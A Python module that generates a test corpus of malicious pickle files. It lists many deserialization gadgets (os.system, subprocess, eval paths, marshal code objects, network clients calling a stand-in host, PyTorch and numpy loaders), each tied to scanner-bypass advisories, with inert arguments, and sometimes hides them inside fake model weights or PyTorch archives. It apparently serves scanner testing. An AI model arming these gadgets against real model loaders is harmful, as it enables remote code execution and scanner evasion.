"""Callables that run code, import, read, write or connect when a pickle names them.

Every row is a published or documented primitive; arguments are inert. Names and advisory
ids are facts taken from the public advisories cited in each row.
"""

from __future__ import annotations

import base64
import io
import zipfile

from .asm import G, R, dump, g
from .core import Registry, digest

CMD = "true"
CODE = "print('cordon')"
NOWHERE = "cordon-does-not-exist"
HOST = "cordon.invalid"
PS = "picklescan "
FK = "fickling "
MS = "modelscan issue 338"
PD = "Python library documentation"
PYTHON2 = ("__builtin__", "commands", "popen2", "httplib", "urllib2")

# marshal.dumps(compile("print('cordon')", "<m>", "exec")) of CPython 3.11, kept as a constant so
# that the corpus does not depend on the Python that makes it.
MARSHAL_311 = base64.b64decode(
    "4wAAAAAAAAAAAAAAAAMAAAAAAAAA8xwAAACXAAIAZQBkAKYBAACrAQAAAAAAAAAAAQBkAVMAKQLaBmNvcmRvbk4pAdoFcHJp"
    "bnSpAPMAAAAA+gM8bT76CDxtb2R1bGU+cgcAAAABAAAAcxYAAADwAwEBAdgABYAFgGiBD4QPgA+AD4APcgUAAAA=")

MODULE_OS = R(g("importlib:import_module"), "os")
GETATTR = g("builtins:getattr")


def attr(target: object, *names: str) -> object:
    """getattr chained over names."""
    for name in names:
        target = R(GETATTR, target, name)
    return target


def via(target: object, method: str, *args: object) -> R:
    """Instance, bound method by getattr, call."""
    return R(attr(target, method), *args)


def stdlib_rows() -> list[tuple[str, str, object, str]]:
    """(class, gadget, expression, source) for the standard library."""
    bdb = R(g("bdb:Bdb"))
    rows: list[tuple[str, str, object, str]] = []

    def add(family: str, path: str, *args: object, src: str = PD, expr: object = None) -> None:
        rows.append((family, path.replace(":", "."), R(g(path), *args) if expr is None else expr, src))

    f = "process-os"
    for path in ("os:system", "posix:system", "nt:system", "os:popen"):
        add(f, path, CMD)
    add(f, "os:execvp", CMD, [CMD])
    add(f, "os:spawnlp", 0, CMD, CMD)
    add(f, "os:posix_spawn", "/bin/true", [CMD], {})
    add(f, "os:posix_spawnp", CMD, [CMD], {})
    add(f, "os:startfile", NOWHERE)
    add(f, "posix:execv", "/bin/true", [CMD])
    f = "process-subprocess"
    for name in ("Popen", "run", "call", "check_call", "check_output"):
        add(f, f"subprocess:{name}", [CMD])
    add(f, "subprocess:getoutput", CMD)
    add(f, "subprocess:getstatusoutput", CMD)
    add(f, "_posixsubprocess:fork_exec", [b"true"], (b"/bin/true",), True, (), None, None,
        -1, -1, -1, -1, -1, -1, -1, -1, True, False, 0, None, None, None, -1, None, True,
        src=FK + "GHSA-m6fh-58r7-x697")
    f = "process-python2"
    for path in ("commands:getoutput", "commands:getstatusoutput", "popen2:popen2", "os:popen2"):
        add(f, path, CMD, src="Python 2 library documentation")
    f = "process-helper"
    add(f, "pty:spawn", [CMD], src=PS + "GHSA-vqmv-47xg-9wpr; " + FK + "GHSA-r7v6-mfhq-g3m2")
    add(f, "multiprocessing.util:spawnv_passfds", b"/bin/true", (b"true",), (), src=MS)
    add(f, "uuid:_get_command_stdout", CMD, src=PS + "GHSA-g38g-8gr9-h9xp")
    add(f, "_osx_support:_read_output", CMD, src=PS + "GHSA-g38g-8gr9-h9xp")
    add(f, "_osx_support:_find_build_tool", CMD, src=FK + "GHSA-5hwf-rc88-82xm")
    add(f, "_aix_support:_read_cmd_output", CMD, src=PS + "GHSA-g38g-8gr9-h9xp")
    add(f, "_pyrepl.pager:pipe_pager", "text", CMD, src=PS + "GHSA-g38g-8gr9-h9xp")
    add(f, "imaplib:IMAP4_stream", CMD, src=PS + "GHSA-g38g-8gr9-h9xp")
    add(f, "test.support.script_helper:assert_python_ok", "-c", "pass", src=PS + "GHSA-g38g-8gr9-h9xp")
    add(f, "pydoc:pipepager", "text", CMD, src=PS + "GHSA-655q-fx9r-782v")
    add(f, "pydoc:tempfilepager", "text", CMD)
    add(f, "distutils.spawn:spawn", [CMD])
    add(f, "platform:_syscmd_file", NOWHERE, src=FK + "GHSA-5cxw-w2xg-2m8h")
    add(f, "ctypes.util:find_library", NOWHERE)
    add(f, "webbrowser:open", f"https://{HOST}/", src="picklescan blocklist")
    add(f, "webbrowser:GenericBrowser", expr=via(R(g("webbrowser:GenericBrowser"), [CMD]), "open", "x"))
    add(f, "pipes:Template", expr=via(via(R(g("pipes:Template")), "append", CMD, "--"), "x"))
    add(f, "asyncio:run", expr=R(g("asyncio:run"), R(g("asyncio:create_subprocess_shell"), CMD)),
        src=PS + "pull request 30")
    add(f, "asyncio.unix_events:_UnixSubprocessTransport._start", {}, CMD, True, None, None, None, 0,
        src=PS + "GHSA-jgw4-cr84-mqxg, GHSA-q77w-mwjj-7mqx, GHSA-f7qq-56ww-84cr")

    f = "eval-builtin"
    add(f, "builtins:eval", CODE), add(f, "builtins:exec", CODE)
    add(f, "__builtin__:eval", CODE), add(f, "__builtin__:execfile", NOWHERE)
    add(f, "__builtin__:apply", expr=R(g("__builtin__:apply"), g("os:system"), (CMD,)))
    add(f, "builtins:compile", expr=R(g("builtins:eval"), R(g("builtins:compile"), CODE, "<m>", "eval")))
    add(f, "builtins:breakpoint"), add(f, "builtins:__import__", "this")
    add(f, "__builtin__:input", CODE), add(f, "builtins:open", NOWHERE)
    add(f, "__builtin__:file", NOWHERE)
    f = "eval-debugger"
    add(f, "bdb:Bdb.run", bdb, CODE, src=PS + "pull request 29")
    add(f, "bdb:Bdb.runeval", bdb, CODE), add(f, "pdb:run", CODE), add(f, "pdb:runeval", CODE)
    add(f, "bdb:Bdb.runctx", bdb, CODE, {}, {})
    f = "eval-profiler"
    add(f, "cProfile:run", CODE, src=PS + "GHSA-49gj-c84q-6qm9; " + FK + "GHSA-p523-jq9w-64x9")
    add(f, "cProfile:runctx", CODE, {}, {}, src=PS + "GHSA-9w88-8rmg-7g2p")
    add(f, "profile:run", CODE, src=PS + "GHSA-7wx9-6375-f5wh")
    add(f, "profile:Profile.run", R(g("profile:Profile")), CODE, src=PS + "GHSA-x696-vm39-cp64")
    add(f, "profile:Profile.runctx", R(g("profile:Profile")), CODE, {}, {}, src=PS + "GHSA-6vqj-c2q5-j97w")
    add(f, "cProfile:Profile.runcall", R(g("cProfile:Profile")), g("os:system"), CMD)
    add(f, "trace:Trace.run", R(g("trace:Trace")), CODE, src=PS + "GHSA-5qwp-399c-mjwf")
    add(f, "trace:Trace.runctx", R(g("trace:Trace")), CODE, {}, {}, src=PS + "GHSA-g344-hcph-8vgg")
    add(f, "trace:Trace.runfunc", R(g("trace:Trace")), g("os:system"), CMD)
    add(f, "timeit:timeit", CODE, "pass", src=PS + "GHSA (timeit), release 0.0.25")
    add(f, "timeit:repeat", CODE, "pass"), add(f, "timeit:main", ["-n1", CODE])
    f = "eval-doctest"
    add(f, "doctest:debug_script", CODE, True, src=PS + "GHSA-fqq6-7vqf-w3fg")
    add(f, "doctest:debug_src", ">>> " + CODE, True)
    add(f, "unittest.mock:_get_target", "os.system"), add(f, "unittest:main", NOWHERE)
    f = "eval-repl"
    interp = R(g("code:InteractiveInterpreter"))
    add(f, "code:InteractiveInterpreter.runcode", interp, CODE, src=PS + "GHSA-cj3c-v495-4xqh")
    add(f, "code:InteractiveInterpreter.runsource", interp, CODE, src=FK + "GHSA-q5qq-mvfm-j35x")
    add(f, "code:interact", CODE)
    add(f, "rlcompleter:Completer.attr_matches", R(g("rlcompleter:Completer"), {"a": 1}), "a.b")
    add(f, "typing:ForwardRef._evaluate", R(g("typing:ForwardRef"), "print('cordon')"), {}, {},
        R(g("builtins:frozenset")))
    add(f, "dataclasses:_create_fn", "f", [], [CODE])
    f = "eval-idlelib"
    for path, ghsa in (
        ("idlelib.pyshell:ModifiedInterpreter.runcode", "GHSA-3gf5-cxq9-w223"),
        ("idlelib.pyshell:ModifiedInterpreter.runcommand", "GHSA-j343-8v2j-ff7w"),
        ("idlelib.debugobj:ObjectTreeItem.SetText", "GHSA-3vg9-h568-4w9m"),
        ("idlelib.autocomplete:AutoComplete.get_entity", "GHSA-6w4w-5w54-rjvr"),
        ("idlelib.autocomplete:AutoComplete.fetch_completions", "GHSA-7cq8-mj8x-j263"),
        ("idlelib.calltip:Calltip.fetch_tip", "GHSA-8r4j-24qv-fmq9"),
        ("idlelib.calltip:get_entity", "GHSA-9xph-j2h6-g47v"),
        ("idlelib.run:Executive.runcode", "GHSA-m869-42cg-3xwr"),
    ):
        add(f, path, *((None, CODE) if "." in path.split(":")[1] else (CODE,)), src=PS + ghsa)
    f = "eval-lib2to3"
    add(f, "lib2to3.pgen2.grammar:Grammar.loads", R(g("lib2to3.pgen2.grammar:Grammar")), b"N.",
        src=PS + "GHSA-f54q-57x4-jg88")
    add(f, "lib2to3.pgen2.pgen:ParserGenerator.make_label", None, None, '"' + '"', src=PS + "GHSA-p9w7-82w4-7q8m")
    add(f, "lib2to3.main:main", "lib2to3.fixes", [])
    f = "code-object"
    loads = R(g("marshal:loads"), MARSHAL_311)
    add(f, "marshal:loads", expr=loads, src=FK + "GHSA-565g-hwwr-4pp3")
    add(f, "types:FunctionType", expr=R(R(g("types:FunctionType"), loads, {})), src=FK + "GHSA-565g-hwwr-4pp3")
    add(f, "types:CodeType", 0, 0, 0, 0, 1, 0, b"\x97\x00d\x00S\x00", (None,), (), (), "m", "m", "m", 1, b"", b"", (), (),
        src="picklescan blocklist")
    add(f, "codeop:compile_command", expr=R(g("builtins:eval"), R(g("codeop:compile_command"), CODE))), add(f, "types:LambdaType", expr=R(R(g("types:LambdaType"), loads, {})))
    add(f, "builtins:exec-marshal", expr=R(g("builtins:exec"), loads))
    f = "import-run"
    add(f, "runpy:_run_code", expr=R(g("runpy:_run_code"), R(g("builtins:compile"), CODE, "<m>", "exec"), {}),
        src=PS + "pull request 27")
    add(f, "runpy:run_path", NOWHERE + ".py", src=FK + "GHSA-wfq2-52f7-7qvj")
    add(f, "runpy:run_module", "this", src=FK + "GHSA-q5qq-mvfm-j35x")
    add(f, "importlib:import_module", "this", src="picklescan issue 66")
    add(f, "importlib:__import__", "this", src="picklescan issue 66")
    spec = R(g("importlib.util:spec_from_file_location"), "m", NOWHERE + ".py")
    add(f, "importlib.util:spec_from_file_location", src="picklescan issue 66",
        expr=R(attr(spec, "loader", "exec_module"), R(g("importlib.util:module_from_spec"), spec)))
    add(f, "importlib.machinery:SourceFileLoader",
        expr=via(R(g("importlib.machinery:SourceFileLoader"), "m", NOWHERE + ".py"), "load_module"))
    add(f, "_frozen_importlib_external:SourceFileLoader",
        expr=via(R(g("_frozen_importlib_external:SourceFileLoader"), "m", NOWHERE + ".py"), "load_module"))
    add(f, "importlib:reload", expr=R(g("importlib:reload"), MODULE_OS))
    add(f, "imp:load_source", "m", NOWHERE + ".py", src="fickling blocklist")
    add(f, "imp:load_dynamic", "m", NOWHERE + ".so")
    add(f, "zipimport:zipimporter", NOWHERE + ".zip")
    add(f, "site:addsitedir", NOWHERE, src=FK + "GHSA-m6fh-58r7-x697")
    add(f, "site:addpackage", ".", NOWHERE + ".pth", None, src=FK + "GHSA-m6fh-58r7-x697")
    add(f, "pydoc:importfile", NOWHERE + ".py"), add(f, "pydoc:safeimport", "this")
    f = "name-resolver"
    resolved = (
        ("pkgutil:resolve_name", "os:system", PS + "GHSA-vvpj-8cmc-gx39"),
        ("pydoc:locate", "os.system", PS + "GHSA-84r2-jw7c-4r5q; " + FK + "GHSA-5hvc-6wx8-mvv4"),
        ("logging.config:_resolve", "os.system", PD),
        ("unittest.mock:_importer", "os.system", PD),
    )
    for path, target, src in resolved:
        add(f, path, expr=R(R(g(path), target), CMD), src=src)
    add(f, "logging.config:dictConfig", {"version": 1, "formatters": {"f": {"()": "os.getcwd"}}})
    f = "attribute-access"
    add(f, "builtins:getattr", expr=R(attr(R(g("builtins:__import__"), "os"), "system"), CMD), src=FK + "GHSA-h4rm-mm56-xf63")
    for mod in ("operator", "_operator"):
        add(f, f"{mod}:attrgetter", expr=R(R(R(G(mod, "attrgetter"), "system"), MODULE_OS), CMD),
            src=PS + "GHSA-46h3-79wf-xr6c")
        add(f, f"{mod}:methodcaller", expr=R(R(G(mod, "methodcaller"), "system", CMD), MODULE_OS),
            src=PS + "GHSA-955r-x9j8-7rhh")
    add(f, "operator:itemgetter", expr=R(R(R(g("operator:itemgetter"), "system"), R(g("builtins:vars"), MODULE_OS)), CMD))
    add(f, "operator:call", expr=R(g("operator:call"), g("os:system"), CMD))
    add(f, "inspect:getattr_static", expr=R(R(g("inspect:getattr_static"), MODULE_OS, "system"), CMD))
    add(f, "builtins:object.__getattribute__",
        expr=R(R(g("builtins:object.__getattribute__"), R(g("builtins:__import__"), "os"), "system"), CMD))
    add(f, "sys:modules", expr=R(attr(R(attr(g("sys:modules"), "get"), "os"), "system"), CMD))
    add(f, "builtins:globals", expr=R(R(attr(R(attr(R(g("builtins:globals")), "get"), "__builtins__"), "get"), "eval"), CODE))
    add(f, "gc:get_objects", src=FK + "GHSA-r48f-3986-4f9c")
    f = "indirect-call"
    S, A = g("os:system"), [CMD]
    add(f, "functools:partial", expr=R(R(g("functools:partial"), S, CMD)), src="picklescan blocklist")
    add(f, "functools:reduce", expr=R(R(g("functools:reduce"), GETATTR, ["system"], MODULE_OS), CMD))
    add(f, "builtins:map", expr=R(g("builtins:list"), R(g("builtins:map"), S, A)), src="modelaudit pull request 1061")
    add(f, "builtins:filter", expr=R(g("builtins:list"), R(g("builtins:filter"), S, A)), src="modelaudit pull request 1061")
    add(f, "itertools:starmap", expr=R(g("builtins:list"), R(g("itertools:starmap"), S, [(CMD,)])), src="modelaudit pull request 1061")
    add(f, "itertools:accumulate", expr=R(g("builtins:list"), R(g("itertools:accumulate"), [MODULE_OS, "system"], GETATTR)), src="modelaudit pull request 1061")
    add(f, "collections:deque", expr=R(g("collections:deque"), R(g("builtins:map"), S, A)))
    add(f, "builtins:iter", expr=R(g("builtins:next"), R(g("builtins:iter"), R(g("functools:partial"), S, CMD), 7)))
    add(f, "collections:defaultdict", expr=R(attr(R(g("collections:defaultdict"), R(g("functools:partial"), S, CMD)), "__missing__"), 1), src="modelaudit pull request 1061")
    add(f, "re:sub", expr=R(g("re:sub"), "t", g("os:system"), "t"), src="modelaudit pull request 1061")
    add(f, "weakref:finalize", expr=R(g("weakref:finalize"), g("os:path"), S, CMD), src="modelaudit pull request 1061")
    add(f, "atexit:register", expr=R(g("atexit:register"), S, CMD), src=FK + "GHSA-m6fh-58r7-x697")
    add(f, "threading:Timer", expr=via(R(g("threading:Timer"), 0, S, A), "start"), src="fickling blocklist")
    add(f, "_thread:start_new_thread", expr=R(g("_thread:start_new_thread"), S, (CMD,)), src="fickling blocklist")
    add(f, "signal:signal", expr=R(g("signal:signal"), 10, g("os:abort")), src="fickling blocklist")
    add(f, "concurrent.futures:ThreadPoolExecutor", expr=via(R(g("concurrent.futures:ThreadPoolExecutor"), 1), "submit", S, CMD))
    add(f, "sched:scheduler", expr=R(attr(R(g("sched:scheduler")), "enter"), 0, 0, S, (CMD,)))
    add(f, "types:MethodType", expr=R(R(g("types:MethodType"), S, CMD)))
    add(f, "functools:singledispatch", expr=R(R(g("functools:singledispatch"), S), CMD))
    add(f, "builtins:type", expr=R(attr(R(g("builtins:type"), "T", (), {"run": g("builtins:exec")}), "run"), CODE))
    add(f, "builtins:classmethod", expr=R(attr(R(g("builtins:classmethod"), g("builtins:exec")), "__func__"), CODE))
    add(f, "builtins:property", expr=R(attr(R(g("builtins:property"), g("builtins:eval")), "fget"), CODE))
    f = "subinterpreter"
    for mod in ("_interpreters", "_xxsubinterpreters"):
        add(f, f"{mod}:run_string", expr=R(G(mod, "run_string"), R(G(mod, "create")), CODE), src=FK + "GHSA-6ggj-6f2q-f7mx")
    add(f, "test.support:run_in_subinterp", CODE), add(f, "_testcapi:run_in_subinterp", CODE)
    f = "native-library"
    add(f, "ctypes:CDLL", None, src=PS + "GHSA-4675-36f9-wf6r; " + FK + "GHSA-5hvc-6wx8-mvv4")
    add(f, "ctypes:PyDLL", None), add(f, "_ctypes:dlopen", None, 2)
    add(f, "ctypes:LibraryLoader", expr=via(R(g("ctypes:LibraryLoader"), g("ctypes:CDLL")), "LoadLibrary", None))
    add(f, "_imp:create_dynamic", None), add(f, "cffi:FFI")
    add(f, "ctypes:string_at", 0, 0), add(f, "sqlite3:connect", ":memory:", src="fickling blocklist")
    f = "network-client"
    add(f, "socket:create_connection", (HOST, 9)), add(f, "httplib:HTTPSConnection", HOST)
    add(f, "http.client:HTTPSConnection", HOST), add(f, "urllib.request:urlopen", f"https://{HOST}/")
    add(f, "urllib.request:urlretrieve", f"https://{HOST}/", NOWHERE, src=MS)
    add(f, "ssl:get_server_certificate", (HOST, 443), src=PS + "GHSA-hgrh-qx5j-jfwx")
    for path in ("smtplib:SMTP", "ftplib:FTP", "poplib:POP3", "imaplib:IMAP4", "telnetlib:Telnet", "nntplib:NNTP"):
        add(f, path, HOST, src=FK + "GHSA-mhc9-48gj-9gp3")
    add(f, "xmlrpc.client:ServerProxy", f"http://{HOST}/"), add(f, "socket:getaddrinfo", HOST, 80)
    add(f, "socketserver:TCPServer", ("127.0.0.1", 0), None, False, src="fickling blocklist")
    add(f, "logging.handlers:HTTPHandler", HOST, "/"), add(f, "urllib2:urlopen", f"http://{HOST}/")
    f = "file-access"
    add(f, "_io:FileIO", NOWHERE, src=PS + "file read advisory, release 0.0.35")
    add(f, "io:open", NOWHERE), add(f, "io:open_code", "/" + NOWHERE), add(f, "codecs:open", NOWHERE)
    add(f, "logging:FileHandler", NOWHERE + "/x.log", src=PS + "GHSA-m7j5-r2p5-c39r")
    add(f, "distutils.file_util:write_file", NOWHERE + "/x", ["x"], src=PS + "GHSA-m273-6v24-x4m4")
    add(f, "linecache:getlines", NOWHERE, src=FK + "GHSA-r48f-3986-4f9c")
    add(f, "fileinput:input", expr=R(g("builtins:list"), R(g("fileinput:input"), NOWHERE)), src=FK + "GHSA-r48f-3986-4f9c")
    add(f, "shutil:rmtree", NOWHERE), add(f, "shutil:copyfile", NOWHERE, NOWHERE), add(f, "shutil:unpack_archive", NOWHERE, NOWHERE, "zip")
    add(f, "os:remove", NOWHERE), add(f, "os:listdir", NOWHERE), add(f, "glob:glob", NOWHERE)
    add(f, "pathlib:Path.write_text", R(g("pathlib:PosixPath"), NOWHERE + "/x"), "x")
    add(f, "pathlib:Path.read_text", R(g("pathlib:PosixPath"), NOWHERE))
    add(f, "tarfile:open", NOWHERE), add(f, "zipfile:ZipFile", NOWHERE), add(f, "shelve:open", NOWHERE + "/x", "r")
    add(f, "py_compile:compile", NOWHERE, src="fickling blocklist"), add(f, "compileall:compile_dir", NOWHERE, src="fickling blocklist")
    add(f, "mmap:mmap", -1, 1), add(f, "dbm.dumb:open", NOWHERE + "/x", "r")
    f = "package-install"
    add(f, "pip:main", ["--version"], src=PS + "CVE-2025-1716")
    add(f, "pip._internal:main", ["--version"], src=PS + "CVE-2025-1716")
    add(f, "pip._internal.cli.main:main", ["--version"], src=PS + "CVE-2025-1716")
    add(f, "ensurepip:_run_pip", ["--version"], src=PS + "GHSA-xp4f-hrf8-rxw7")
    add(f, "ensurepip:_main", ["--version"]), add(f, "venv:create", NOWHERE + "/\0"), add(f, "venv:main", ["--help"])
    f = "nested-unpickler"
    inner = dump(R(g("os:system"), CMD), 2)
    add(f, "pickle:loads", inner, src="modelscan issue 267"), add(f, "_pickle:loads", inner, src=PS + "pull request 26")
    add(f, "pickle:Unpickler", expr=via(R(g("pickle:_Unpickler"), R(g("io:BytesIO"), inner)), "load"))
    add(f, "shelve:Shelf", expr=via(R(g("shelve:Shelf"), {b"k": inner}), "__getitem__", "k"))
    add(f, "multiprocessing.reduction:ForkingPickler.loads", inner)
    add(f, "multiprocessing.connection:_ForkingPickler.loads", inner)
    f = "process-state"
    add(f, "sys:exit", 0), add(f, "sys:setprofile", expr=R(g("sys:setprofile"), g("builtins:exec")))
    add(f, "sys:settrace", expr=R(g("sys:settrace"), None)), add(f, "os:_exit", 0), add(f, "os:kill", 0, 0)
    add(f, "os:putenv", "CORDON", "1"), add(f, "faulthandler:_sigsegv", True), add(f, "sys:_getframe", 0)
    add(f, "sys:addaudithook", expr=R(g("sys:addaudithook"), g("builtins:print")))
    add(f, "resource:setrlimit", 7, (-1, -1)), add(f, "os:fork")
    return rows


def thirdparty_rows() -> list[tuple[str, str, object, str]]:
    """(class, gadget, expression, source) for packages common where models are loaded."""
    rows: list[tuple[str, str, object, str]] = []

    def add(family: str, path: str, *args: object, src: str = "project documentation", expr: object = None) -> None:
        rows.append((family, path.replace(":", "."), R(g(path), *args) if expr is None else expr, src))

    f = "torch-eval"
    add(f, "torch.utils.bottleneck.__main__:run_cprofile", CODE, {}, src=PS + "GHSA-4r9r-ch6f-vxmx")
    add(f, "torch.utils.bottleneck.__main__:run_autograd_prof", CODE, {}, src=PS + "GHSA-4whj-rm5r-c2v8")
    add(f, "torch.utils.collect_env:run", CMD, src=PS + "GHSA-f745-w6jp-hpxx; " + MS)
    add(f, "torch.utils.collect_env:run_and_read_all",
        expr=R(g("torch.utils.collect_env:run_and_read_all"), g("torch.utils.collect_env:run"), CMD), src=PS + "GHSA-jhph-76pp-mggw")
    add(f, "torch.jit.unsupported_tensor_ops:execWrapper", CODE, {}, {}, src=PS + "GHSA-vr7h-p6mm-wpmh")
    add(f, "torch._dynamo.guards:GuardBuilder.get", None, CODE, src=PS + "GHSA-86cj-95qr-2p4f")
    add(f, "torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression", None, CODE, [], src=PS + "GHSA-f4x7-rfwp-v3xw")
    add(f, "torch._inductor.codecache:compile_file", "", "", [CMD], src=PS + "pull request 37")
    add(f, "torch.fx.graph_module:_exec_with_source", CODE, {})
    add(f, "torch.fx.graph_module:reduce_graph_module", {"_code": CODE}, "")
    add(f, "torch.fx.graph_module:_forward_from_src", "def forward(self): pass", {})
    f = "torch-load"
    add(f, "torch:load", NOWHERE), add(f, "torch.serialization:load", NOWHERE, src=PS + "GHSA-655q-fx9r-782v")
    add(f, "torch.hub:load", "cordon/invalid", "m"), add(f, "torch.jit:load", NOWHERE)
    add(f, "torch.utils._config_module:ConfigModule.load_config", None, b"N.", src=PS + "GHSA-vv6j-3g6g-2pvj")
    add(f, "torch.utils.data.datapipes.utils.decoder:basichandlers", "pickle", b"N.", src=PS + "GHSA-h3qp-7fh3-f8h4")
    add(f, "torch.package:PackageImporter", NOWHERE), add(f, "torch.storage:_load_from_bytes", dump(R(g("os:system"), CMD), 2))
    add(f, "torch.distributed.distributed_c10d:_tensor_to_object", b"N.", 2, None)
    f = "torch-native"
    add(f, "torch.ops:load_library", NOWHERE + ".so"), add(f, "torch._ops:_Ops.load_library", None, NOWHERE + ".so")
    add(f, "torch.classes:load_library", NOWHERE + ".so"), add(f, "torch.utils.cpp_extension:load_inline", "m", "int x;")
    add(f, "torch.utils.cpp_extension:load", "m", [NOWHERE + ".cpp"])
    add(f, "torch.multiprocessing:spawn", expr=R(g("torch.multiprocessing:spawn"), g("os:system"), (CMD,)))
    f = "numpy-eval"
    add(f, "numpy.testing._private.utils:runstring", CODE, {}, src=PS + "GHSA (numpy runstring), release 0.0.25")
    add(f, "numpy.f2py.crackfortran:getlincoef", CODE, [], src=PS + "GHSA-r8g5-cgf2-4m4m")
    add(f, "numpy.f2py.crackfortran:_eval_length", CODE, {}, src=PS + "GHSA-r8g5-cgf2-4m4m family")
    add(f, "numpy.f2py.crackfortran:param_eval", CODE, {}, {}), add(f, "numpy.f2py:compile", "x")
    add(f, "numpy.distutils.exec_command:exec_command", CMD), add(f, "numpy.distutils.misc_util:exec_mod_from_location", "m", NOWHERE)
    f = "numpy-load"
    add(f, "numpy:load", NOWHERE, None, True), add(f, "numpy.lib.npyio:load", NOWHERE, None, True)
    add(f, "numpy.ctypeslib:load_library", NOWHERE, "."), add(f, "numpy:fromfile", NOWHERE), add(f, "numpy:memmap", NOWHERE)
    add(f, "numpy:save", NOWHERE + "/x", 0), add(f, "numpy:loadtxt", f"https://{HOST}/"), add(f, "numpy:vectorize",
        expr=R(R(g("numpy:vectorize"), g("os:system")), CMD))
    f = "pandas"
    add(f, "pandas:read_pickle", NOWHERE), add(f, "pandas:eval", "@print('cordon')")
    add(f, "pandas.io.parsers.readers:read_csv", f"https://{HOST}/", src=MS)
    add(f, "pandas.core.computation.eval:eval", "1"), add(f, "pandas.compat.pickle_compat:load", NOWHERE)
    f = "ml-loader"
    for path in ("joblib:load", "sklearn.externals.joblib:load", "dill:load", "cloudpickle:load",
                 "keras.models:load_model", "tensorflow.keras.models:load_model", "mlflow.pyfunc:load_model",
                 "tensorflow:load_op_library", "tensorflow:load_library", "xgboost.core:_load_lib"):
        add(f, path, NOWHERE)
    add(f, "dill:loads", dump(R(g("os:system"), CMD), 2)), add(f, "cloudpickle:loads", dump(R(g("os:system"), CMD), 2))
    add(f, "jsonpickle:decode", '{"py/reduce": [{"py/function": "os.getcwd"}, {"py/tuple": []}]}')
    add(f, "yaml:unsafe_load", "!!python/object/apply:os.getcwd []"), add(f, "ray.cloudpickle:loads", b"N.")
    add(f, "mlflow.projects.backend.local:_run_entry_point", CMD, ".", "", "", src=MS)
    add(f, "transformers.dynamic_module_utils:get_class_from_dynamic_module", "m.C", "cordon/invalid")
    add(f, "keras.utils:get_file", "x", f"https://{HOST}/x"), add(f, "huggingface_hub:hf_hub_download", "cordon/invalid", "x")
    add(f, "tensorflow.raw_ops:WriteFile", NOWHERE), add(f, "tensorflow:py_function", None, [], [])
    f = "library-eval"
    add(f, "sympy:sympify", CODE), add(f, "sympy.parsing.sympy_parser:parse_expr", CODE)
    add(f, "numexpr:evaluate", "1"), add(f, "IPython.utils.process:system", CMD), add(f, "pexpect:run", CMD)
    add(f, "invoke:run", CMD), add(f, "sh:Command", CMD), add(f, "setuptools._distutils.spawn:spawn", [CMD])
    add(f, "django.core.management:call_command", "check"), add(f, "fsspec:open", f"https://{HOST}/")
    add(f, "requests.api:get", f"https://{HOST}/"), add(f, "requests:post", f"https://{HOST}/"), add(f, "aiohttp.client:ClientSession")
    add(f, "paramiko.client:SSHClient"), add(f, "httpx:get", f"https://{HOST}/")
    add(f, "scipy.io:loadmat", NOWHERE), add(f, "cloudpickle.cloudpickle:subimport", "os", src="picklescan blocklist")
    f = "serializer-code"
    loads = R(g("marshal:loads"), MARSHAL_311)
    add(f, "dill._dill:_create_function", expr=R(R(g("dill._dill:_create_function"), loads, {})), src="modelscan issue 28")
    add(f, "dill._dill:_create_code", 0, 0, 0, 0, 1, 0, b"\x97\x00d\x00S\x00", (None,), (), (), "m", "m", 1, b"", (), (), src="modelscan issue 28")
    add(f, "dill._dill:_import_module", "os.system"), add(f, "dill._dill:_get_attr", MODULE_OS, "system")
    add(f, "dill._dill:_load_type", "CodeType"), add(f, "dill._dill:_eval_repr", CODE)
    add(f, "cloudpickle.cloudpickle:_make_function", expr=R(g("cloudpickle.cloudpickle:_make_function"), loads, {}, None, None, None),
        src="picklescan blocklist")
    add(f, "cloudpickle.cloudpickle:_builtin_type", "CodeType", src="picklescan blocklist")
    add(f, "cloudpickle:_fill_function", None, {})
    return rows


_NAMES = ("model.pkl", "weights.pickle", "vectorizer.joblib", "classifier.pkl", "pipeline.pickle", "scaler.joblib")


def _torch_zip(code: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in (("archive/data.pkl", code), ("archive/version", b"3\n"), ("archive/byteorder", b"little")):
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
    return buffer.getvalue()


def _protocol(expr: object, mark: int) -> int:
    """A protocol allowed for the expression: dotted names need 4 or more, Python 2 names 2 or less."""
    if isinstance(expr, R) and isinstance(expr.func, G) and expr.func.module in PYTHON2:
        return mark % 3
    return (4, 5)[mark & 1] if _has_dotted(expr) else (0, 1, 2, 3, 4, 5)[mark % 6]


def _has_dotted(value: object) -> bool:
    if isinstance(value, G):
        return "." in value.name
    if isinstance(value, R):
        return _has_dotted(value.func) or any(map(_has_dotted, value.args))
    if isinstance(value, (list, tuple)):
        return any(map(_has_dotted, value))
    if isinstance(value, dict):
        return any(map(_has_dotted, value.values()))
    return False


def _surround(expr: object, mark: int) -> object:
    """Sometimes the payload hides among ordinary model values."""
    if mark % 3 == 0:
        return expr
    if mark % 3 == 1:
        return {"epoch": 3, "state_dict": {"layer.weight": [5, 25]}, "config": expr}
    return [{"classes_": ["cat", "dog"]}, expr, 125]


def register(reg: Registry) -> None:
    """One case per gadget; protocol, name and surroundings follow from its hash."""
    for rows, torchy in ((stdlib_rows(), False), (thirdparty_rows(), True)):
        for family, gadget, expr, source in rows:
            mark = int(digest("shape", family, gadget)[:8], 16)
            proto = _protocol(expr, mark)
            code = dump(_surround(expr, mark >> 8), proto, frame=bool(mark & 4096))
            text = f"pickle protocol {proto} calling {gadget} with inert arguments"
            if torchy and family.startswith("torch") or mark % 11 == 0:
                reg.add("gadget-" + family, gadget, ("pytorch_model.pt", _torch_zip(code)),
                        "pytorch-zip", source, text, verify="zip:archive/data.pkl")
            else:
                reg.add("gadget-" + family, gadget, (_NAMES[mark % len(_NAMES)], code), "pickle", source, text, verify="pickle")
